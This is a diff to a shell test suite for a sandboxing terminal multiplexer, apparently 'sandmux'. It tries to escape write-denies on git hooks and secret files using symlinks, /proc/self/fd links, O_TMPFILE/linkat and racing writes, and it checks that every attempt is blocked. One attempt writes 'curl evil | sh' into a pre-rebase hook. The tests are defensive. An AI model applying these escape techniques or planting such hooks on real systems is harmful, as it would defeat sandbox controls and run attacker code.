@@ -16,6 +16,10 @@
 # the supervisor answers one call at a time and the log keeps its order,
 # so the violations between two sentinels are that attempt's.
 #
+# All of it for a server run as root and one run as uid 65534
+# (tests/native-ctx.sh), each with its own HOME, work tree and files,
+# owned by that user: only the sandbox's rules may stop the writes.
+#
 # Mutation check: build/sandmux-spelling is the same server built with
 # -DSV_SPELLING_ONLY (see docs/supervisor.md, "The mutation build"),
 # which decides by the path's spelling.  The symlink attempts are run
@@ -25,33 +29,19 @@
 ESCAPE_DIR=$(cd "$(dirname "$0")" && pwd)
 BUILD_DIR=${SANDMUX_BUILD:-$(dirname "$SANDMUX_BIN")}
 
-for tool in bwrap cc; do
+for tool in bwrap cc setpriv; do
 	if ! command -v "$tool" >/dev/null 2>&1; then
 		not_ok "$tool is installed"
 		finish
 	fi
 done
+HOST_PATH=$PATH
 W=$(mktemp -d /var/tmp/sandmux-final.XXXXXX)
 chmod 755 "$W"
-H="$W/home"
-WORK="$W/work"
-RO="$W/ro"
 BIN="$W/bin"
-A="$W/attempts"
-R="$WORK/.r"
-mkdir -p "$H/.ssh" "$WORK" "$RO" "$BIN" "$A" "$R" "$W/run" "$W/state" "$W/config"
-chmod 700 "$W/run"
-chmod 777 "$R"
-export HOME="$H" XDG_RUNTIME_DIR="$W/run" XDG_STATE_HOME="$W/state" XDG_CONFIG_HOME="$W/config"
-LOG="$W/state/sandmux/events.jsonl"
-MUT_NAME="${T_NAME}m"
-
-cleanup_final() {
-	sm kill-server >/dev/null 2>&1
-	"$BUILD_DIR/sandmux-spelling" -L "$MUT_NAME" kill-server >/dev/null 2>&1
-	rm -rf "$W" "$T_DIR"
-}
-trap cleanup_final EXIT
+mkdir -p "$BIN"
+. "$(dirname "$0")/../native-ctx.sh"
+trap 'servers_kill; rm -rf "$W" "$T_DIR"' EXIT
 
 if ! cc -O1 -pthread -o "$BIN/finalobj" "$ESCAPE_DIR/progs/finalobj.c" 2>"$W/cc.log"; then
 	not_ok "finalobj.c compiles"
@@ -59,25 +49,40 @@ if ! cc -O1 -pthread -o "$BIN/finalobj" "$ESCAPE_DIR/progs/finalobj.c" 2>"$W/cc.
 	finish
 fi
 
-# The host's files the attempts aim at.
+# setup_host: the current context's files the attempts aim at, made
+# before its server starts and owned by its user.
 #  - a repository nested in the work tree: its hooks exist only there, so
 #    no mount protects them; only the supervisor's write-deny does;
 #  - a repository at the root of the work tree (hooks bound read-only);
 #  - a .env made by the host before the pane started;
-#  - a read-only host directory outside the writable roots.
-mkdir -p "$WORK/sub/.git/hooks" "$WORK/sub/.git/logs" "$WORK/.git/hooks"
-HOOK="$WORK/sub/.git/hooks/pre-commit"
-echo "original hook" >"$HOOK"
-echo "original top hook" >"$WORK/.git/hooks/pre-commit"
-echo "SECRET=orig" >"$WORK/real.env"
-echo "ok file" >"$WORK/ok.txt"
-chmod 666 "$WORK/ok.txt"
+#  - a host directory outside the writable roots (read-only inside).
+setup_host() {
+	H="$D/home"
+	WORK="$D/work"
+	RO="$D/ro"
+	A="$D/attempts"
+	R="$WORK/.r"
+	LOG="$D/state/sandmux/events.jsonl"
+	mkdir -p "$H/.ssh" "$RO" "$A" "$R" "$WORK/sub/.git/hooks" "$WORK/sub/.git/logs" \
+		"$WORK/.git/hooks"
+	chmod 777 "$R"
+	HOOK="$WORK/sub/.git/hooks/pre-commit"
+	echo "original hook" >"$HOOK"
+	echo "original top hook" >"$WORK/.git/hooks/pre-commit"
+	echo "SECRET=orig" >"$WORK/real.env"
+	echo "ok file" >"$WORK/ok.txt"
+	chmod 666 "$WORK/ok.txt"
+	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
+	return 0
+}
 
 # attempt PANE NAME < SCRIPT: run SCRIPT in PANE's shell, in $WORK/NAME;
 # $OUT gets its output and " rc=N".  The wrapper's last act is the
 # sentinel read (see the header).
 attempt() {
 	mkdir -p "$WORK/$2"
+	# the pane's own directory: only the rules may refuse what it makes there
+	[ "$WHO" = nobody ] && chown 65534:65534 "$WORK/$2"
 	cat >"$A/$2.sh"
 	rm -f "$R/$2"
 	cat >"$A/$2.run" <<EOF
@@ -197,9 +202,9 @@ check_symlink_attempts() {
 # without, a file named after the attempt in a nested .git/hooks.
 pick() {
 	if [ "$NAMES" = 1 ]; then
-		D="$WORK/$T-$1/a" N=$2 ACT=file-write-create
+		TD="$WORK/$T-$1/a" N=$2 ACT=file-write-create
 	else
-		D="$WORK/sub/.git/hooks" N="post-$T-$1" ACT=file-write*
+		TD="$WORK/sub/.git/hooks" N="post-$T-$1" ACT=file-write*
 	fi
 }
 other_attempts() {
@@ -224,7 +229,7 @@ EOF
 	if [ "$NAMES" = 1 ]; then
 		pick dotdot d.env
 		attempt "$P" "$T-dotdot" <<EOF
-mkdir -p $D/b && ln -s $D/b s && echo y >s/../$N
+mkdir -p $TD/b && ln -s $TD/b s && echo y >s/../$N
 EOF
 	else
 		pick dotdot
@@ -232,14 +237,14 @@ EOF
 ln -s $WORK/sub/.git/logs s && echo y >s/../hooks/$N
 EOF
 	fi
-	final "$T-dotdot" "s -> a dir, echo y >s/../...$N" "$ACT" "$D/$N" \
-		both sh -c "[ ! -e '$D/$N' ] && [ ! -e '$WORK/$T-dotdot/$N' ]"
+	final "$T-dotdot" "s -> a dir, echo y >s/../...$N" "$ACT" "$TD/$N" \
+		both sh -c "[ ! -e '$TD/$N' ] && [ ! -e '$WORK/$T-dotdot/$N' ]"
 	# threat: /proc/self/fd/N of a directory as a prefix
 	pick procfd e.env
 	attempt "$P" "$T-procfd" <<EOF
-mkdir -p $D && exec 3<$D && echo y >/proc/self/fd/3/$N
+mkdir -p $TD && exec 3<$TD && echo y >/proc/self/fd/3/$N
 EOF
-	final "$T-procfd" "echo y >/proc/self/fd/3/$N" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-procfd" "echo y >/proc/self/fd/3/$N" "$ACT" "$TD/$N" absent "$TD/$N"
 	attempt "$P" "$T-procfd-hooks" <<EOF
 exec 3<$WORK/sub/.git/hooks && echo 'curl evil | sh' >/proc/self/fd/3/pre-rebase
 EOF
@@ -248,27 +253,27 @@ EOF
 	# threat: /dev/fd/N, the same through /dev's link
 	pick devfd f.env
 	attempt "$P" "$T-devfd" <<EOF
-mkdir -p $D && exec 4<$D && echo y >/dev/fd/4/$N
+mkdir -p $TD && exec 4<$TD && echo y >/dev/fd/4/$N
 EOF
-	final "$T-devfd" "echo y >/dev/fd/4/$N" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-devfd" "echo y >/dev/fd/4/$N" "$ACT" "$TD/$N" absent "$TD/$N"
 	# threat: /proc/PID/cwd of the shell (its pid inside the sandbox)
 	pick proccwd g.env
 	attempt "$P" "$T-proccwd" <<EOF
-mkdir -p $D && cd $D && echo y >/proc/\$\$/cwd/$N
+mkdir -p $TD && cd $TD && echo y >/proc/\$\$/cwd/$N
 EOF
-	final "$T-proccwd" "echo y >/proc/\$\$/cwd/$N" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-proccwd" "echo y >/proc/\$\$/cwd/$N" "$ACT" "$TD/$N" absent "$TD/$N"
 	# threat: /proc/self/root as a prefix
 	pick procroot h.env
 	attempt "$P" "$T-procroot" <<EOF
-mkdir -p $D && echo y >/proc/self/root$D/$N
+mkdir -p $TD && echo y >/proc/self/root$TD/$N
 EOF
-	final "$T-procroot" "echo y >/proc/self/root/.../$N" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-procroot" "echo y >/proc/self/root/.../$N" "$ACT" "$TD/$N" absent "$TD/$N"
 	# threat: an ordinary symlink leading to a magic link
 	pick symproc i.env
 	attempt "$P" "$T-symproc" <<EOF
-mkdir -p $D && exec 3<$D && ln -s /proc/self/fd/3 m && echo y >m/$N
+mkdir -p $TD && exec 3<$TD && ln -s /proc/self/fd/3 m && echo y >m/$N
 EOF
-	final "$T-symproc" "m -> /proc/self/fd/3, echo y >m/$N" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-symproc" "m -> /proc/self/fd/3, echo y >m/$N" "$ACT" "$TD/$N" absent "$TD/$N"
 	# threat: RENAME_EXCHANGE puts new contents under an existing denied name
 	if [ "$NAMES" = 1 ]; then
 		attempt "$P" "$T-exchange" <<EOF
@@ -285,16 +290,16 @@ EOF
 	# threat: O_TMPFILE, then a name given by linkat through /proc/self/fd
 	pick tmplink j.pem
 	attempt "$P" "$T-tmplink" <<EOF
-mkdir -p $D && ln -s $D d && $BIN/finalobj tmplink . d/$N
+mkdir -p $TD && ln -s $TD d && $BIN/finalobj tmplink . d/$N
 EOF
 	final "$T-tmplink" "O_TMPFILE + linkat(/proc/self/fd/N, d/$N) (d -> the dir)" "$ACT" \
-		"$D/$N" absent "$D/$N"
+		"$TD/$N" absent "$TD/$N"
 	pick tmpempty k.key
 	attempt "$P" "$T-tmpempty" <<EOF
-mkdir -p $D && $BIN/finalobj tmpempty . $D/$N
+mkdir -p $TD && $BIN/finalobj tmpempty . $TD/$N
 EOF
-	final "$T-tmpempty" "O_TMPFILE + linkat(fd, \"\", $N, AT_EMPTY_PATH)" "$ACT" "$D/$N" \
-		absent "$D/$N"
+	final "$T-tmpempty" "O_TMPFILE + linkat(fd, \"\", $N, AT_EMPTY_PATH)" "$ACT" "$TD/$N" \
+		absent "$TD/$N"
 	attempt "$P" "$T-tmphook" <<EOF
 $BIN/finalobj tmplink . $WORK/sub/.git/hooks/post-merge
 EOF
@@ -326,9 +331,9 @@ EOF
 		"$WORK/sub/.git/hooks/pre-applypatch" absent "$WORK/sub/.git/hooks/pre-applypatch"
 	pick rename-name l.env
 	attempt "$P" "$T-rename-name" <<EOF
-mkdir -p $D && ln -s $D d && echo y >t && mv t d/$N
+mkdir -p $TD && ln -s $TD d && echo y >t && mv t d/$N
 EOF
-	final "$T-rename-name" "mv t d/$N (d -> the dir)" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-rename-name" "mv t d/$N (d -> the dir)" "$ACT" "$TD/$N" absent "$TD/$N"
 	# threat: making a write-denied directory, directly and through a link
 	attempt "$P" "$T-mkdir" <<'EOF'
 mkdir -p r/.git && mkdir r/.git/hooks
@@ -343,14 +348,14 @@ EOF
 	# threat: mknod and symlink onto a denied name through a symlinked directory
 	pick mknod m.env
 	attempt "$P" "$T-mknod" <<EOF
-mkdir -p $D && ln -s $D d && mkfifo d/$N
+mkdir -p $TD && ln -s $TD d && mkfifo d/$N
 EOF
-	final "$T-mknod" "mkfifo d/$N (d -> the dir)" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-mknod" "mkfifo d/$N (d -> the dir)" "$ACT" "$TD/$N" absent "$TD/$N"
 	pick symlink n.pem
 	attempt "$P" "$T-symlink" <<EOF
-mkdir -p $D && ln -s $D d && ln -s anything d/$N
+mkdir -p $TD && ln -s $TD d && ln -s anything d/$N
 EOF
-	final "$T-symlink" "ln -s anything d/$N (d -> the dir)" "$ACT" "$D/$N" absent "$D/$N"
+	final "$T-symlink" "ln -s anything d/$N (d -> the dir)" "$ACT" "$TD/$N" absent "$TD/$N"
 	# threat: openat with a dirfd inside a write-denied directory
 	attempt "$P" "$T-dirfd" <<EOF
 $BIN/finalobj dirfd $WORK/sub/.git/hooks post-rewrite
@@ -358,29 +363,6 @@ EOF
 	final "$T-dirfd" "openat(fd of nested .git/hooks, post-rewrite, O_CREAT)" file-write* \
 		"$WORK/sub/.git/hooks/post-rewrite" absent "$WORK/sub/.git/hooks/post-rewrite"
 }
-
-# --- agent ----------------------------------------------------------------------
-SM=sm
-sm new -d -s fin -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
-PROFILE=agent
-G=$(native_pane --profile agent)
-if ! field_is "$G" backend native; then
-	not_ok "an agent pane starts ($(pane_field "$G" reason))"
-	finish
-fi
-# The sentinels need the supervisor (a denied read reported).
-attempt "$G" probe <<'EOF'
-true
-EOF
-if ! wait_for 5 sentinel_in probe; then
-	not_ok "the agent pane is supervised (its sentinel read was reported)"
-	finish
-fi
-ok "setup: agent pane $G, supervised"
-symlink_attempts "$G" agent
-check_symlink_attempts agent
-NAMES=1
-other_attempts "$G" agent
 
 # threat: a racing thread swaps the path of a checked write to an
 # existing file for a protected one (CONTINUE would let the kernel
@@ -390,34 +372,64 @@ race_attempt() {
 	attempt "$1" "$2-race" <<EOF
 $BIN/finalobj race 20000 $WORK/ok.txt $HOOK
 EOF
-	check "$2: 20,000 racing writes flipping ok.txt / a nested hook leave the hook unchanged" \
+	check "$NAME/$2: 20,000 racing writes flipping ok.txt / a nested hook leave the hook unchanged" \
 		same "$HOOK" "original hook"
-	check "$2: ... and the racer ran (ok.txt was written through the emulated opens)" race_ran
+	check "$NAME/$2: ... and the racer ran (ok.txt was written through the emulated opens)" race_ran
 }
 race_ran() { grep -q evil "$WORK/ok.txt" && out_has "race: 20000 opens done"; }
-race_attempt "$G" agent
 
-# --- terminal, where the host-run lists make these refusals ------------------------
-PROFILE=terminal
-TP=$(native_pane)
-attempt "$TP" terminal-probe <<EOF
+SM=sm
+for who in root nobody; do
+	ctx "$who" "$who"
+	setup_host
+	sm new -d -s fin -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
+
+	# --- agent --------------------------------------------------------------
+	PROFILE="$NAME/agent"
+	G=$(native_pane --profile agent)
+	if ! field_is "$G" backend native; then
+		not_ok "$NAME: an agent pane starts ($(pane_field "$G" reason))"
+		finish
+	fi
+	# The sentinels need the supervisor (a denied read reported).
+	attempt "$G" probe <<'EOF'
+true
+EOF
+	if ! wait_for 5 sentinel_in probe; then
+		not_ok "$NAME: the agent pane is supervised (its sentinel read was reported)"
+		finish
+	fi
+	ok "$NAME: setup: agent pane $G, supervised"
+	symlink_attempts "$G" agent
+	check_symlink_attempts agent
+	NAMES=1
+	other_attempts "$G" agent
+	race_attempt "$G" agent
+
+	# --- terminal, where the host-run lists make these refusals -------------
+	PROFILE="$NAME/terminal"
+	TP=$(native_pane)
+	attempt "$TP" terminal-probe <<EOF
 echo x >$WORK/sub/.git/hooks/probe
 EOF
-if [ -e "$WORK/sub/.git/hooks/probe" ]; then
-	echo "# skip terminal: the terminal profile has no write-denies for .git/hooks yet"
-else
-	symlink_attempts "$TP" term
-	# The c.env/k.pem names are agent rules; terminal keeps the write-deny ones.
-	final term-hook "symlink to a nested .git/hooks/pre-push, echo >l" file-write* \
-		"$WORK/sub/.git/hooks/pre-push" absent "$WORK/sub/.git/hooks/pre-push"
-	final term-write "open(O_WRONLY) through a symlink to a nested hook" file-write* "$HOOK" \
-		same "$HOOK" "original hook"
-	final term-linkfollow "linkat(AT_SYMLINK_FOLLOW) through a symlink to a nested hook" \
-		file-write* "$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/term-linkfollow/alias' ]"
-	NAMES=0
-	other_attempts "$TP" term
-	race_attempt "$TP" terminal
-fi
+	if [ -e "$WORK/sub/.git/hooks/probe" ]; then
+		not_ok "$NAME: the terminal profile refuses a write into a nested .git/hooks"
+	else
+		symlink_attempts "$TP" term
+		# The c.env/k.pem names are agent rules; terminal keeps the
+		# write-deny ones.
+		final term-hook "symlink to a nested .git/hooks/pre-push, echo >l" file-write* \
+			"$WORK/sub/.git/hooks/pre-push" absent "$WORK/sub/.git/hooks/pre-push"
+		final term-write "open(O_WRONLY) through a symlink to a nested hook" file-write* \
+			"$HOOK" same "$HOOK" "original hook"
+		final term-linkfollow "linkat(AT_SYMLINK_FOLLOW) through a symlink to a nested hook" \
+			file-write* "$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/term-linkfollow/alias' ]"
+		NAMES=0
+		other_attempts "$TP" term
+		race_attempt "$TP" terminal
+	fi
+	sm kill-server >/dev/null 2>&1
+done
 
 # --- the mutation check ----------------------------------------------------------
 PROFILE=mutant
@@ -425,10 +437,11 @@ if [ ! -x "$BUILD_DIR/sandmux-spelling" ]; then
 	not_ok "the mutation build $BUILD_DIR/sandmux-spelling exists (make build-tests builds it)"
 	finish
 fi
-sm kill-server >/dev/null 2>&1
-SM="$BUILD_DIR/sandmux-spelling -L $MUT_NAME"
-$SM new -d -s mut -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
-sm() { $SM "$@"; }
+# (as root: what it shows does not depend on the user)
+ctx mut root
+setup_host
+SANDMUX_BIN="$BUILD_DIR/sandmux-spelling"
+sm new -d -s mut -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
 M=$(native_pane --profile agent)
 if ! field_is "$M" backend native; then
 	not_ok "mutant: an agent pane starts ($(pane_field "$M" reason))"
